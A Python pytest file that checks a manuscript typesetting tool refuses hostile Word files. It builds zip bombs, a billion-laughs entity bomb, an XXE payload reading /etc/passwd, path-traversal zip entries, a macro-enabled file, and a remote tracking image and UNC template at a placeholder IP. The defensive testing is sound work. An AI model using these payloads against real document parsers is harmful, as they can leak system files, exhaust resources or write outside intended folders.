"""Every Word file from outside is untrusted.  Each hostile kind made here is refused or
neutralised with a clear message, in under 2 s, without a traceback, writing nothing outside
the issue folder and fetching nothing from the network; `import` and `update` alike."""
import io
import shutil
import socket
import struct
import time
import zipfile
from pathlib import Path

import docx
import pytest

from typeset.cli import main as cli_main


ISSUE = Path(__file__).resolve().parent.parent / "issue"


def base_docx() -> bytes:
    d = docx.Document()
    d.add_paragraph("关于加强基层党建工作的思考", style="Title")
    d.add_paragraph("作者：任涛")
    d.add_paragraph("这是正文的第一段。")
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def repack(data: bytes, change: dict[str, bytes | None] = {}, add: dict[str, bytes] = {}) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in change:
                if change[info.filename] is not None:
                    dst.writestr(info.filename, change[info.filename])
            else:
                dst.writestr(info, src.read(info))
        for name, blob in add.items():
            dst.writestr(name, blob)
    return out.getvalue()


def document_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("word/document.xml").decode("utf-8")


def with_document(data: bytes, xml: str) -> bytes:
    return repack(data, {"word/document.xml": xml.encode("utf-8")})


def lying_sizes(data: bytes, name: str, size: int) -> bytes:
    """The zip with `name`'s uncompressed size recorded as `size` in both headers."""
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.getinfo(name)
    struct.pack_into("<I", buf, info.header_offset + 22, size)
    cd = buf.find(b"PK\x01\x02")
    while cd >= 0:
        n = struct.unpack_from("<H", buf, cd + 28)[0]
        if bytes(buf[cd + 46:cd + 46 + n]).decode() == name:
            struct.pack_into("<I", buf, cd + 24, size)
            break
        cd = buf.find(b"PK\x01\x02", cd + 4)
    return bytes(buf)


BOMB_DOC = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"""

XXE_DOC = """<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
<w:p><w:r><w:t>标题</w:t></w:r></w:p><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>"""

REMOTE_IMAGE_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rIdStyles" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>
<Relationship Id="rIdRemote" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://203.0.113.9/track.png" TargetMode="External"/>
<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\\\203.0.113.9\\share\\evil.dotm" TargetMode="External"/>
</Relationships>"""

REMOTE_IMAGE_PARA = """<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">
<wp:extent cx="100" cy="100"/><wp:docPr id="9" name="remote"/>
<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">
<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="9" name="r"/><pic:cNvPicPr/></pic:nvPicPr>
<pic:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rIdRemote" r:embed="rIdRemote"/></pic:blipFill>
<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"""


def hostile_files(tmp: Path) -> dict[str, tuple[Path, str]]:
    """name → (file, a phrase its message must hold)."""
    good = base_docx()
    files: dict[str, tuple[bytes, str, str]] = {}
    files["zip bomb"] = (repack(good, {"word/document.xml": b"\0" * (80 << 20)}), "压缩炸弹", ".docx")
    files["zip bomb, ratio"] = (repack(good, add={"word/media/image1.png": b"\0" * (30 << 20)}), "压缩炸弹", ".docx")
    padded = repack(good, {"word/document.xml": document_xml(good).encode() + b" " * (90 << 20)})
    files["zip bomb, lying sizes"] = (lying_sizes(padded, "word/document.xml", 4000), "已损坏", ".docx")
    files["entity bomb"] = (with_document(good, BOMB_DOC), "XML 实体", ".docx")
    files["external entity"] = (with_document(good, XXE_DOC), "外部实体攻击", ".docx")
    ct = zipfile.ZipFile(io.BytesIO(good)).read("[Content_Types].xml").decode().replace(
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
    files["macros (.docm)"] = (repack(good, {"[Content_Types].xml": ct.encode()},
                                      {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "文件含有宏", ".docm")
    files["PDF renamed"] = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n", "这个文件是PDF，不是 .docx 文件", ".docx")
    files["Word 97 renamed"] = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000, "Word 97–2003", ".docx")
    xlsx = repack(good, {"[Content_Types].xml": ct.replace("ms-word.document.macroEnabled.main+xml",
                                                           "spreadsheetml.sheet.main+xml").encode()})
    files["spreadsheet renamed"] = (xlsx, "没有 Word 主文档", ".docx")
    files["not a zip"] = (b"just some text\n", "不是 Word 文档", ".docx")
    files["path escape"] = (repack(good, add={"../../escaped.txt": b"x", "word/media/../../../../escaped2.txt": b"y"}),
                            "指向包外的路径", ".docx")
    files["absolute path"] = (repack(good, add={"/tmp/escaped3.txt": b"z"}), "指向包外的路径", ".docx")
    out = {}
    for name, (blob, phrase, ext) in files.items():
        path = tmp / (name.replace(" ", "-").replace(",", "").replace("(", "").replace(")", "") + ext)
        path.write_bytes(blob)
        out[name] = (path, phrase)
    return out


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return hostile_files(tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def no_network(monkeypatch):
    def refuse(*a, **k):
        raise AssertionError("the network was used")
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


KINDS = ["zip bomb", "zip bomb, ratio", "zip bomb, lying sizes", "entity bomb", "external entity", "macros (.docm)",
         "PDF renamed", "Word 97 renamed", "spreadsheet renamed", "not a zip", "path escape", "absolute path"]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("command", ["import", "update"])
def test_hostile_file_refused_quickly_cleanly(kind, command, hostile, tmp_path, capsys, no_network):
    path, phrase = hostile[kind]
    issue = tmp_path / "sandbox" / "issue"
    shutil.copytree(ISSUE, issue, ignore=shutil.ignore_patterns("images"))
    (issue / "images").mkdir()
    shutil.copy(ISSUE / "images" / "cover.png", issue / "images")
    before = sorted(p for p in tmp_path.rglob("*"))
    argv = ["import", str(path), "--into", str(issue)] if command == "import" else ["update", str(issue), str(path)]
    t = time.perf_counter()
    status = cli_main(argv)
    elapsed = time.perf_counter() - t
    out, err = capsys.readouterr()
    assert status == 2, (out, err)
    assert elapsed < 2.0, elapsed
    assert "Traceback" not in out + err
    assert phrase in err, err
    assert "改法：" in err
    assert sorted(p for p in tmp_path.rglob("*")) == before  # nothing written, inside or outside
    assert not list(Path("/tmp").glob("escaped*.txt"))


def test_remote_image_and_template_neutralised(tmp_path, capsys, no_network):
    """A picture linked to a web address and an attached template: never fetched; the rest of
    the manuscript is imported, with a warning naming each."""
    good = base_docx()
    xml = document_xml(good).replace("<w:sectPr", REMOTE_IMAGE_PARA + "<w:sectPr", 1)
    blob = repack(good, {"word/document.xml": xml.encode(), "word/_rels/document.xml.rels": REMOTE_IMAGE_RELS.encode()})
    path = tmp_path / "remote.docx"
    path.write_bytes(blob)
    issue = tmp_path / "issue"
    (issue / "articles").mkdir(parents=True)
    t = time.perf_counter()
    assert cli_main(["import", str(path), "--into", str(issue)]) == 0
    assert time.perf_counter() - t < 2.0
    out = capsys.readouterr().out
    assert "链接的图片（未嵌入）（'http://203.0.113.9/track.png'）没有下载" in out
    assert "附加的模板（" in out
    assert (issue / "articles" / "01-remote.md").read_text(encoding="utf-8").endswith("这是正文的第一段。\n")
    assert not (issue / "images").exists()
